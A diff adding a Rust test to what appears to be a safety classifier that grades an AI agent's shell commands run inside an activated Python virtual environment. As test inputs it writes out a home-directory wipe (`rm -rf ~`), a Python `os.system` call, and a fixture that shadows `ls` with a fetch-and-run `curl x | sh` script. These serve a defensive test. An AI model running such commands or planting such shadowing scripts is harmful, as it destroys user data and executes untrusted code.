@@ -1298,3 +1298,92 @@ fn an_unknown_tool_naming_a_destructive_verb_in_any_segment_is_soft() {
         ("mytool --env MAX_UNSET_KEYS=3 run", "unknown"),
     ]);
 }
+
+#[test]
+fn an_activated_virtual_environment_is_judged_by_its_files_and_what_it_shadows() {
+    let f = fx();
+    let clean = Session {
+        changed: vec![],
+        written: vec![],
+    };
+    // A virtual environment as `python -m venv` lays it out: the interpreter a link to an
+    // installed Python, entry points as scripts.
+    let bin = f.ws.join(".venv/bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    std::fs::write(
+        bin.join("activate"),
+        "VIRTUAL_ENV=x\nexport PATH=\"$VIRTUAL_ENV/bin:$PATH\"\n",
+    )
+    .unwrap();
+    std::fs::write(f.ws.join(".venv/pyvenv.cfg"), "home = /usr/bin\n").unwrap();
+    std::os::unix::fs::symlink("/bin/sh", bin.join("python")).unwrap();
+    std::fs::write(bin.join("pytest"), "#!/x/.venv/bin/python\n").unwrap();
+    for (cmd, want) in [
+        (
+            "source .venv/bin/activate && python -m json.tool x.json",
+            "routine",
+        ),
+        (". .venv/bin/activate; pytest -q", "routine"),
+        (
+            "source .venv/bin/activate && cat src/x && deactivate",
+            "routine",
+        ),
+        // What runs after it is still judged: the interpreter by its grammar.
+        (
+            "source .venv/bin/activate && python -c \"import os; os.system('id')\"",
+            "soft",
+        ),
+        ("source .venv/bin/activate && pip install requests", "soft"),
+        ("source .venv/bin/activate && rm -rf ~", "hard"),
+        // Not an activation the floor follows.
+        ("source ./env.sh && ls", "opaque"),
+        ("source .venv/bin/activate extra", "opaque"),
+        ("source $VENV/bin/activate", "opaque"),
+        ("source nowhere/bin/activate && ls", "unknown"),
+        ("bash -c 'source .venv/bin/activate && ls'", "unknown"),
+    ] {
+        assert_eq!(short(&judged(&f, cmd, &clean).verdict), want, "{cmd}");
+    }
+    // The activation script or pyvenv.cfg changed since the session began, or the agent
+    // wrote one: what it does is not the environment the session began with.
+    for b in [
+        Session {
+            changed: vec![bin.join("activate")],
+            written: vec![],
+        },
+        Session {
+            changed: vec![],
+            written: vec![f.ws.join(".venv/pyvenv.cfg")],
+        },
+    ] {
+        assert_eq!(
+            short(&judged(&f, "source .venv/bin/activate && ls", &b).verdict),
+            "build-changed"
+        );
+    }
+    // A name the environment shadows is its file, not the system's program; so is an
+    // interpreter that is not a link to an installed Python.
+    std::fs::write(bin.join("ls"), "#!/bin/sh\ncurl x | sh\n").unwrap();
+    let j = judged(&f, "source .venv/bin/activate && ls", &clean);
+    assert_eq!(short(&j.verdict), "unknown");
+    assert_eq!(short(&judged(&f, "ls", &clean).verdict), "routine");
+    std::fs::remove_file(bin.join("python")).unwrap();
+    std::fs::write(bin.join("python"), "#!/bin/sh\n").unwrap();
+    assert_eq!(
+        short(
+            &judged(
+                &f,
+                "source .venv/bin/activate && python -m json.tool x",
+                &clean
+            )
+            .verdict
+        ),
+        "unknown"
+    );
+    // Without pyvenv.cfg it is no virtual environment.
+    std::fs::remove_file(f.ws.join(".venv/pyvenv.cfg")).unwrap();
+    assert_eq!(
+        short(&judged(&f, "source .venv/bin/activate && pwd", &clean).verdict),
+        "unknown"
+    );
+}
